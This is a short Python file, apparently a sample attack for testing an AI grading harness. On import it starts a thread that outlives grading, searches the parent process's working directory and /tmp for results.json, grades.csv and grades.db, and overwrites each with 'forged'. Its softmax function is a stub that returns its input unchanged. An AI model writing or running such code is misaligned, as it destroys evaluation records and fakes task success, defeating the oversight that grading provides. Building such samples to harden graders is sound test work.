"""Attack: a non-daemon thread that waits for grading to end, then rewrites results."""
import os
import threading
import time


def _later():
    time.sleep(3)
    for root in (f"/proc/{os.getppid()}/cwd", "/tmp"):
        for dirpath, _, filenames in os.walk(root):
            for name in filenames:
                if name in ("results.json", "grades.csv", "grades.db"):
                    try:
                        open(os.path.join(dirpath, name), "w").write("forged")
                    except OSError:
                        pass


threading.Thread(target=_later, daemon=False).start()


def softmax(x, dim=-1):
    return x
